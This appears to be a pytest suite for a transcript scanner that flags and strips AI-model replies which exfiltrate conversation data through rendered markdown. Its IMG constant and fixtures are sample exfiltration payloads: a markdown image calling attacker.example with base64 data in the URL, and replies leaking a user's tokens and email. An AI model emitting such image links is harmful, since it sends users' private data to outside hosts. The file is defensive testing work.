"""`rendersafe scan` over stored transcripts: every shape, fix mode, bad input, parallel
ranges, reports (JSON, SARIF), audit records, and the same scan on Dask."""

from __future__ import annotations

import gzip
import io
import json
import re
import shutil
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from rendersafe import sanitize
from rendersafe.cli import run
from rendersafe.scan import ScanOptions, ScanReport, scan, tasks_for
from rendersafe.scan import inputs as scan_inputs
from rendersafe.scan.records import conversation_before, texts_of

ROOT = Path(__file__).parent.parent
TRANSCRIPTS = ROOT / "fixtures" / "transcripts"
BAD = Path(__file__).parent / "data" / "scan"
IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
# Replies that leak a piece of the conversation raw: only the messages before them say so.
LEAKS = TRANSCRIPTS / "conversation-leaks.jsonl"


def cli(*args: str, stdin: str = "") -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(list(args), stdin=io.StringIO(stdin), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def labels() -> dict[str, str]:
    """Conversation id -> honest or attack, from the OpenAI file."""
    rows = [json.loads(x) for x in (TRANSCRIPTS / "openai-chat.jsonl").read_text().splitlines()]
    return {row["id"].split("-")[1]: row["label"] for row in rows}


def test_every_attack_flagged_and_no_honest_one() -> None:
    report = scan([str(TRANSCRIPTS)], ScanOptions())
    assert report.errors == []
    assert report.summary.files == 6
    flagged = {(row.path, row.record_id) for row in report.findings}
    label = labels()
    for path, record in flagged:
        number = record.split("-")[-1] if "-" in record else None
        if path.endswith(("reply.md", LEAKS.name)):
            continue  # one reply; the leaks file is checked below
        assert number is not None, (path, record)
        assert label[number] != "honest", (path, record)
    attacks = {n for n, kind in label.items() if kind != "honest"}
    openai = {r.split("-")[1] for p, r in flagged if p.endswith("openai-chat.jsonl")}
    assert openai == attacks
    assert {row.role for row in report.findings} == {"model"}


def test_main_job_command() -> None:
    code, out, err = cli("scan", str(TRANSCRIPTS))
    assert code == 1
    # A line per finding (path:line: reason ...), then the summary.
    assert re.match(r"\S+/anthropic-messages\.json:\d+: encoded_base64 ", out)
    assert re.search(r"^files 6 \(0 with errors\), records 75 ", out, re.MULTILINE)
    assert "by reason" in out
    assert err == ""  # no progress bar when stderr is not a terminal


def test_replies_judged_with_the_messages_before_them() -> None:
    rows = [json.loads(line) for line in LEAKS.read_text().splitlines()]
    report = scan([str(LEAKS)], ScanOptions())
    assert report.errors == []
    flagged = {row.record_id for row in report.findings}
    assert flagged == {row["id"] for row in rows if row["label"] == "attack"}
    # the user's own URL repeated, their own address as mailto:, an article slug with the
    # words of the question, a token that only later appears in the conversation: none
    assert {row.reasons for row in report.findings} == {("conversation_data",)}
    assert report.summary.by_reason == {"conversation_data": len(report.findings)}
    assert {row.role for row in report.findings} == {"model"}


def test_the_messages_before_each_one() -> None:
    def parts(*texts: str) -> list[dict[str, str]]:
        return [{"type": "text", "text": text} for text in texts]

    result = {"type": "tool_result", "tool_use_id": "t", "content": "T"}
    record = {
        "system": parts("S"),
        "messages": [
            {"role": "user", "content": parts("U1", "U2")},
            {"role": "assistant", "content": parts("A1", "A2")},
            {"role": "user", "content": [result]},
        ],
        "completion": "C",
    }
    texts = [t for t in texts_of(record) if t.judged(None)]
    assert [(t.role, t.text) for t in texts] == [
        ("system", "S"), ("user", "U1"), ("user", "U2"), ("model", "A1"),
        ("model", "A2"), ("tool", "T"), ("model", "C"),
    ]  # fmt: skip
    every = texts_of(record)

    def seen(text: str) -> list[tuple[str, str]]:
        index = next(i for i, t in enumerate(every) if t.text == text)
        before = conversation_before(every, index)
        return [(m.role, m.text) for m in before.messages] if before else []

    assert seen("S") == []
    assert seen("A1") == seen("A2") == [("system", "S"), ("user", "U1\nU2")]  # not A1 for A2
    assert seen("C") == [*seen("A2"), ("model", "A1\nA2"), ("tool", "T"), ("tool", "t")]
    sharegpt = {"system": "S", "conversations": [{"from": "human", "value": "H"}]}
    assert [(t.role, t.source.turn) for t in texts_of(sharegpt)] == [("system", 0), ("user", 1)]
    pair = {"prompt": "P", "completion": "C"}
    both = texts_of(pair)
    assert [(m.role, m.text) for m in conversation_before(both, 1).messages] == [("user", "P")]  # type: ignore[union-attr]


def test_the_fixed_leaks_are_clean_and_every_message_else_kept(tmp_path: Path) -> None:
    scan([str(LEAKS)], ScanOptions(fix_dir=tmp_path))
    fixed = (tmp_path / LEAKS.name).read_text()
    for secret in ("7f3kq9x2mz81", "dana.whitfield@acme-health.example", "hx42vq9tz7"):
        assert fixed.count(secret) == LEAKS.read_text().count(secret) - 1  # only the reply's
    assert scan([str(tmp_path)], ScanOptions()).summary.findings == 0


def test_fix_mirrors_the_tree_and_changes_only_the_text(tmp_path: Path) -> None:
    fixed = tmp_path / "cleaned"
    report = scan([str(TRANSCRIPTS)], ScanOptions(fix_dir=fixed))
    names = sorted(p.name for p in TRANSCRIPTS.iterdir())
    assert sorted(p.name for p in fixed.iterdir()) == names  # no temporary files left
    assert gzip.decompress((fixed / "replies.jsonl.gz").read_bytes())  # still gzip
    before = (TRANSCRIPTS / "openai-chat.jsonl").read_text().splitlines()
    after = (fixed / "openai-chat.jsonl").read_text().splitlines()
    changed = {row.record_id for row in report.findings if row.path.endswith("openai-chat.jsonl")}
    for old, new in zip(before, after, strict=True):
        record = json.loads(old)
        if record["id"] not in changed:
            assert new == old  # byte for byte
            continue
        cleaned = json.loads(new)
        for m_old, m_new in zip(record["messages"], cleaned["messages"], strict=True):
            expected = (
                sanitize(m_old["content"]) if m_old["role"] == "assistant" else m_old["content"]
            )
            assert m_new == {**m_old, "content": expected}
        assert {k: v for k, v in cleaned.items() if k != "messages"} == {
            k: v for k, v in record.items() if k != "messages"
        }
    again = scan([str(fixed)], ScanOptions())
    assert again.summary.findings == 0  # the fixed copies are clean


def test_in_place(tmp_path: Path) -> None:
    work = tmp_path / "logs"
    shutil.copytree(TRANSCRIPTS, work)
    honest = work / "honest.jsonl"
    honest.write_text(json.dumps({"reply": "Fine."}) + "\n")
    stamp = honest.stat().st_mtime_ns
    code, _, _ = cli("scan", str(work), "--in-place", "--quiet")
    assert code == 0  # every finding fixed
    assert scan([str(work)], ScanOptions()).summary.findings == 0
    assert honest.stat().st_mtime_ns == stamp  # nothing to change: not rewritten


def test_fix_never_overwrites_the_input(tmp_path: Path) -> None:
    work = tmp_path / "logs"
    shutil.copytree(TRANSCRIPTS, work)
    code, _, err = cli("scan", str(work), "--fix", str(work))
    assert code == 2
    assert "would overwrite" in err
    assert cli("scan", str(work), "--fix", str(tmp_path / "x"), "--in-place")[0] == 2


def test_bad_input_reported_with_file_and_line_and_the_rest_scanned(tmp_path: Path) -> None:
    report_path = tmp_path / "report.json"
    code, _out, err = cli(
        "scan",
        str(BAD),
        str(TRANSCRIPTS / "reply.md"),
        "--json",
        str(report_path),
        "--fix",
        str(tmp_path / "fixed"),
    )
    assert code == 1
    report = ScanReport.model_validate_json(report_path.read_text())
    errors = {(Path(e.path).name, e.line): e.message for e in report.errors}
    bad = str(BAD / "bad.jsonl")
    assert errors[("bad.jsonl", 2)].startswith("not JSON")
    assert errors[("bad.jsonl", 4)].startswith("not UTF-8 (byte 26")
    assert "unknown shape" in errors[("bad.jsonl", 5)]
    assert any(name == "truncated.jsonl.gz" and "gzip" in m for (name, _), m in errors.items())
    assert f"{bad}:2: not JSON" in err
    lines_found = sorted(row.line for row in report.findings if row.path == bad)
    assert lines_found == [3, 6]  # the lines around the bad ones were scanned
    assert report.summary.records_unreadable == 3
    assert any(row.path.endswith("reply.md") for row in report.findings)  # the batch went on
    # Two arguments: each keeps its path below the folder they share (the checkout).
    fixed = (tmp_path / "fixed" / BAD.relative_to(ROOT) / "bad.jsonl").read_bytes().splitlines()
    original = (BAD / "bad.jsonl").read_bytes().splitlines()
    # Fail closed: what could not be read is not in the fixed copy, a placeholder is.
    assert len(fixed) == len(original)
    assert json.loads(fixed[1]) == {"rendersafe_withheld": "not_json"}
    assert json.loads(fixed[3]) == {"rendersafe_withheld": "not_utf8"}
    assert json.loads(fixed[4]) == {"rendersafe_withheld": "unknown_shape"}
    assert "withheld from the fixed copy" in errors[("bad.jsonl", 4)]
    assert not (tmp_path / "fixed" / "truncated.jsonl.gz").exists()
    kept = tmp_path / "kept"
    code, _out, _err = cli(
        "scan", str(BAD / "bad.jsonl"), "--fix", str(kept), "--keep-unsanitisable"
    )
    assert code == 1
    assert (kept / "bad.jsonl").read_bytes().splitlines()[3] == original[3]  # as it was


def test_nothing_readable_exits_2(tmp_path: Path) -> None:
    code, _, err = cli("scan", str(tmp_path / "missing"))
    assert code == 2
    assert "no such file or directory" in err


def test_clean_input_exits_0(tmp_path: Path) -> None:
    (tmp_path / "ok.jsonl").write_text(
        json.dumps({"reply": "All [good](https://docs.python.org/3/)."}) + "\n"
    )
    assert cli("scan", str(tmp_path))[0] == 0


def test_stdin(tmp_path: Path) -> None:
    lines = "".join(json.dumps({"reply": f"r{i} {IMG}"}) + "\n" for i in range(3))
    code, out, _ = cli("scan", "-", stdin=lines)
    assert code == 1
    assert "findings 3" in out


def test_roles_and_json_paths(tmp_path: Path) -> None:
    turns = [{"role": "user", "content": IMG}, {"role": "assistant", "content": "ok"}]
    record = {"messages": turns, "meta": {"answer": IMG}}
    path = tmp_path / "r.jsonl"
    path.write_text(json.dumps(record) + "\n")
    assert scan([str(path)], ScanOptions()).summary.findings == 0
    assert scan([str(path)], ScanOptions(roles=None)).summary.findings == 1
    assert scan([str(path)], ScanOptions(roles=frozenset({"user"}))).summary.findings == 1
    by_path = scan([str(path)], ScanOptions(json_paths=("meta.answer",)))
    assert by_path.summary.findings == 1


def test_json_report_schema_and_sarif(tmp_path: Path) -> None:
    cli(
        "scan",
        str(TRANSCRIPTS),
        "--json",
        str(tmp_path / "r.json"),
        "--sarif",
        str(tmp_path / "r.sarif"),
        "--quiet",
    )
    report = json.loads((tmp_path / "r.json").read_text())
    assert set(report) == {"version", "rendersafe_version", "summary", "findings", "errors"}
    assert set(report["findings"][0]) == {
        "path",
        "line",
        "record_id",
        "role",
        "construct",
        "action",
        "reasons",
        "host",
        "url",
        "excerpt",
        "day",
    }
    documented = json.loads((ROOT / "docs" / "scan-report.schema.json").read_text())
    assert documented == ScanReport.model_json_schema()
    log = json.loads((tmp_path / "r.sarif").read_text())
    assert log["version"] == "2.1.0"
    results = log["runs"][0]["results"]
    rules = {rule["id"] for rule in log["runs"][0]["tool"]["driver"]["rules"]}
    assert len(results) == report["summary"]["findings"]
    assert all(r["ruleId"] in rules for r in results)
    assert results[0]["locations"][0]["physicalLocation"]["region"]["startLine"] >= 1


def test_audit_records_from_a_batch(tmp_path: Path) -> None:
    audit = tmp_path / "audit.jsonl"
    report = scan([str(TRANSCRIPTS)], ScanOptions(audit_path=audit), jobs=2)
    records = [json.loads(x) for x in audit.read_text().splitlines()]
    assert len(records) == report.summary.findings
    assert {r["source"]["kind"] for r in records} == {"batch"}
    first = next(r for r in records if r["source"]["file"].endswith("openai-chat.jsonl"))
    assert first["source"]["line"] >= 1
    assert first["source"]["record_id"].startswith("conv-")
    assert "SGVsbG8" not in audit.read_text()
    hashes = {r["url_hmac"] for r in records}
    assert None not in hashes


def big_jsonl(path: Path, records: int) -> None:
    with path.open("w") as out:
        for i in range(records):
            text = f"Reply {i}: " + ("plain words " * 20) + (IMG if i % 50 == 0 else "")
            out.write(json.dumps({"id": f"n{i}", "reply": text}) + "\n")


def test_ranges_give_the_same_result_as_one_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "big.jsonl"
    big_jsonl(path, 1500)
    monkeypatch.setattr(scan_inputs, "_PART_BYTES", 16 * 1024)
    tasks, _ = tasks_for([str(path)], ScanOptions(), jobs=2)
    assert len(tasks) == 8
    one = scan([str(path)], ScanOptions(fix_dir=tmp_path / "one"), jobs=1)
    two = scan([str(path)], ScanOptions(fix_dir=tmp_path / "two"), jobs=2)
    assert [r.model_dump() for r in two.findings] == [r.model_dump() for r in one.findings]
    assert [r.line for r in one.findings] == list(range(1, 1501, 50))
    assert (tmp_path / "two" / "big.jsonl").read_bytes() == (
        tmp_path / "one" / "big.jsonl"
    ).read_bytes()
    assert two.summary.records == 1500


def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    def peak(records: int) -> int:
        path = tmp_path / f"m{records}.jsonl"
        with path.open("w") as out:  # user turns are read, not sanitised: fast to scan
            turns = [{"role": "user", "content": "x" * 500}, {"role": "assistant", "content": "ok"}]
            line = json.dumps({"messages": turns}) + "\n"
            for _ in range(records):
                out.write(line)
        tracemalloc.start()
        scan([str(path)], ScanOptions())
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    small, large = peak(2_000), peak(16_000)  # 1 MB and 8.5 MB
    assert large < small * 1.5 + 200_000


def test_dask_gives_the_same_findings(tmp_path: Path) -> None:
    distributed = pytest.importorskip("distributed")
    from rendersafe.scan.bags import scan_with_dask  # noqa: PLC0415

    local = scan([str(TRANSCRIPTS), str(BAD)], ScanOptions(fix_dir=tmp_path / "l"))
    cluster = distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None, host="127.0.0.1"
    )
    with cluster, distributed.Client(cluster):
        remote = scan_with_dask([str(TRANSCRIPTS), str(BAD)], ScanOptions(fix_dir=tmp_path / "f"))
    key = lambda r: r.model_dump_json()  # noqa: E731
    assert sorted(map(key, remote.findings)) == sorted(map(key, local.findings))
    assert sorted(map(key, remote.errors)) == sorted(map(key, local.errors))
    assert remote.summary == local.summary
    assert (tmp_path / "f" / "fixtures" / "transcripts" / "openai-chat.jsonl").exists()


def write_lines(path: Path, *records: object) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


@pytest.mark.parametrize(
    "record",
    [
        {"messages": [{"role": "assistant", "content": [{"text": {"value": IMG}}]}]},
        {"messages": [{"role": "assistant", "content": "ok", "refusal": IMG}]},
        {"messages": [{"role": "assistant", "content": "ok", "reasoning_content": IMG}]},
        {"messages": [{"role": "assistant", "content": [{"type": "thinking", "thinking": IMG}]}]},
        {"messages": [{"role": "Assistant", "content": IMG}]},
        {"messages": [{"content": IMG}]},
        {"messages": [{"role": "user", "content": "q"}], "completion": IMG},
        {"reply": "fine", "text": IMG},
    ],
)
def test_fields_a_client_renders_are_judged(tmp_path: Path, record: dict[str, Any]) -> None:
    path = write_lines(tmp_path / "r.jsonl", record)
    assert scan([str(path)], ScanOptions()).summary.findings == 1


def test_lone_surrogate_and_deep_nesting_do_not_stop_the_batch(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    path.write_text(
        '{"reply": "\\ud83d '
        + IMG.replace('"', '\\"')
        + '"}\n'
        + "[" * 100_000
        + "\n"
        + json.dumps({"reply": IMG})
        + "\n"
    )
    report = scan([str(path)], ScanOptions(fix_dir=tmp_path / "f"))
    assert [row.line for row in report.findings] == [1, 3]
    assert [e.line for e in report.errors] == [2]
    fixed = (tmp_path / "f" / "r.jsonl").read_text().splitlines()
    assert "attacker" not in fixed[0]
    assert "attacker" not in fixed[2]


def test_a_text_file_too_long_is_an_error_not_a_crash(tmp_path: Path) -> None:
    (tmp_path / "big.md").write_text("x" * 600_000)
    write_lines(tmp_path / "r.jsonl", {"reply": IMG})
    report = scan([str(tmp_path)], ScanOptions(fix_dir=tmp_path.parent / "fx"), jobs=2)
    assert [Path(e.path).name for e in report.errors] == ["big.md"]
    assert report.summary.findings == 1
    leftovers = [p for p in (tmp_path.parent / "fx").rglob("*") if ".tmp" in p.name]
    assert leftovers == []


def test_fix_mirrors_each_argument_and_two_inputs_for_one_file_are_refused(
    tmp_path: Path,
) -> None:
    for folder in ("a/logs", "b/logs"):
        (tmp_path / folder).mkdir(parents=True)
        write_lines(tmp_path / folder / "x.jsonl", {"reply": IMG})
    out = tmp_path / "out"
    code, _, err = cli("scan", str(tmp_path / "a" / "logs"), str(tmp_path / "b/logs/x.jsonl"),
                       "--fix", str(out), "--quiet")  # fmt: skip
    assert code == 0, err  # both fixed, each under its own path
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*.jsonl")) == [
        "a/logs/x.jsonl",
        "b/logs/x.jsonl",
    ]
    (tmp_path / "stdin").write_text(IMG)  # standard input's fixed copy is named stdin
    code, _, err = cli("scan", "-", str(tmp_path / "stdin"), "--fix", str(out), stdin=IMG)
    assert code == 2
    assert "would both be fixed into" in err
    assert cli("scan", "-", "--in-place", stdin="x")[0] == 2


def test_in_place_keeps_the_mode_and_follows_links_inside_the_tree(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    (logs / "sub").mkdir(parents=True)
    real = write_lines(logs / "real.jsonl", {"reply": IMG})
    real.chmod(0o600)
    link = logs / "sub" / "link.jsonl"
    link.symlink_to(real)
    outside = write_lines(tmp_path / "outside.jsonl", {"reply": IMG})
    before = outside.read_bytes()
    (logs / "out.jsonl").symlink_to(outside)
    code, _, err = cli("scan", str(logs), "--in-place", "--quiet")
    assert code == 1
    assert link.is_symlink()
    assert "attacker" not in real.read_text()
    assert real.stat().st_mode & 0o777 == 0o600
    # never written outside the tree it was given: reported instead
    assert outside.read_bytes() == before
    assert f"{logs / 'out.jsonl'}: a symbolic link to {outside}, outside {logs}" in err


def test_gzip_copy_names_the_file_not_the_temporary(tmp_path: Path) -> None:
    scan([str(TRANSCRIPTS / "replies.jsonl.gz")], ScanOptions(fix_dir=tmp_path))
    header = (tmp_path / "replies.jsonl.gz").read_bytes()[:40]
    assert b"rendersafe" not in header
    assert b"replies.jsonl\x00" in header


def test_truncated_gzip_reported_at_the_line_it_broke(tmp_path: Path) -> None:
    lines = "".join(json.dumps({"reply": f"line {i} " + "y" * 40 * i}) + "\n" for i in range(400))
    data = gzip.compress(lines.encode(), compresslevel=1)
    (tmp_path / "t.jsonl.gz").write_bytes(data[: len(data) // 2])
    report = scan([str(tmp_path / "t.jsonl.gz")], ScanOptions())
    (error,) = report.errors
    assert error.line == report.summary.records + 1  # the first line it could not read


def test_stdin_jsonl_with_blank_lines_and_a_bom() -> None:
    text = "\ufeff" + json.dumps({"reply": IMG}) + "\n\n" + json.dumps({"reply": IMG}) + "\n"
    code, out, _ = cli("scan", "-", stdin=text)
    assert code == 1
    assert "findings 2" in out
